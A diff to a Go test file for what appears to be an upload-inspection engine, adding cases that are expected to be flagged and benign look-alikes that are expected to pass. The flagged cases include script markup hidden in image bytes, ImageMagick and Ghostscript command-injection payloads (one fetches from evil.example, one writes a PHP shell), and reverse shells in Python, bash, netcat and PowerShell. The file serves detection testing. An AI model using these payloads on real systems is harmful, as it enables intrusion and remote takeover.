@@ -45,6 +45,31 @@ func TestUploadContent(t *testing.T) {
 		{"a.cgi", "text/plain", "#!/bin/sh\necho; /bin/cat /etc/passwd", "upload-script-file"},
 		{"lib.pl", "text/plain", "% a Prolog file\nparent(tom, bob).", ""},
 		{"deploy.sh", "text/x-shellscript", "#!/bin/sh\nmake install", ""},
+
+		// Script markup inside a raster image (served with a sniffed
+		// type, or included as HTML, it runs).
+		{"logo.gif", "image/gif", "GIF89a<script>alert(document.domain)</script>", "upload-image-markup"},
+		{"avatar.jpg", "image/jpeg", "\xff\xd8\xff\xfe\x00\x20<img src=x onerror=alert(1)>\xff\xd9", "upload-image-markup"},
+		{"a.png", "application/octet-stream", "\x89PNG\r\n\x1a\n\x00\x00<iframe src=//evil.example>", "upload-image-markup"},
+		{"photo.jpg", "image/jpeg", "\xff\xd8\xff\xe1<x:xmpmeta xmlns:x=\"adobe:ns:meta/\"><rdf:Description tiff:Orientation=\"1\" exif:PixelXDimension=\"640\"/></x:xmpmeta>\xff\xd9", ""},
+		{"page.html", "text/html", "<html><body><script>init()</script></body></html>", ""},
+
+		// Converter scripts that run a command or read a file.
+		{"exploit.jpg", "image/jpeg", "push graphic-context\nviewbox 0 0 640 480\nfill 'url(https://127.0.0.1/x.jpg\"|id; curl http://evil.example/p\")'\npop graphic-context", "upload-converter-command"},
+		{"a.png", "image/png", "push graphic-context\nviewbox 0 0 640 480\nimage over 0,0 0,0 'ephemeral:/etc/passwd'\npop graphic-context", "upload-converter-command"},
+		{"doc.eps", "application/postscript", "%!PS\nuserdict /setpagedevice undef\nsave\nlegal\n{ null restore } stopped { pop } if\nmark /OutputFile (%pipe%id > /tmp/pwned) currentdevice putdeviceprops", "upload-converter-command"},
+		{"x.svg", "image/svg+xml", `<?xml version="1.0"?><image><read filename="https://evil.example/a.png"/><write filename="/var/www/shell.php"/></image>`, "upload-converter-command"},
+		{"figure.eps", "application/postscript", "%!PS-Adobe-3.0 EPSF-3.0\n%%BoundingBox: 0 0 100 100\nnewpath 0 0 moveto 100 100 lineto stroke showpage", ""},
+		{"drawing.mvg", "text/plain", "push graphic-context\nviewbox 0 0 100 100\nfill red\ncircle 50,50 50,10\npop graphic-context", ""},
+
+		// Reverse shells in source files.
+		{"shell.py", "text/x-python", "import os,socket,subprocess\ns=socket.socket();s.connect(('10.10.14.7',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\nsubprocess.call(['/bin/sh','-i'])", "upload-reverse-shell"},
+		{"rev.js", "application/javascript", "require('child_process').exec('bash -c \"bash -i >& /dev/tcp/10.10.14.7/4444 0>&1\"')", "upload-reverse-shell"},
+		{"x.sh", "text/x-shellscript", "#!/bin/sh\nrm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 10.0.0.1 4444 >/tmp/f\nnc -e /bin/sh 10.0.0.1 4444 ", "upload-reverse-shell"},
+		{"r.ps1", "text/plain", "$c = New-Object System.Net.Sockets.TCPClient('10.0.0.1',443);$s = $c.GetStream();[byte[]]$b = 0..65535|%{0};while(($i = $s.Read($b, 0, $b.Length)) -ne 0){$d = (New-Object Text.ASCIIEncoding).GetString($b,0,$i);$r = (iex $d 2>&1 | Out-String )}", "upload-reverse-shell"},
+		{"server.py", "text/x-python", "import socket, subprocess\ns = socket.socket()\ns.bind(('0.0.0.0', 8080))\nsubprocess.run(['make', 'test'])", ""},
+		{"ci.sh", "text/x-shellscript", "#!/bin/bash\nset -e\nnc -z localhost 5432 && echo up", ""},
+		{"app.js", "application/javascript", "const { execFile } = require('child_process'); execFile('convert', ['in.png', 'out.jpg'])", ""},
 	} {
 		body, ct := multipartOf([][2]string{{"title", "my file"}}, [][4]string{{"file", c.name, c.ctype, c.content}})
 		d, err := eng.Inspect(newReq("POST", "http://shop.example.com/api/v1/upload", ct, body))
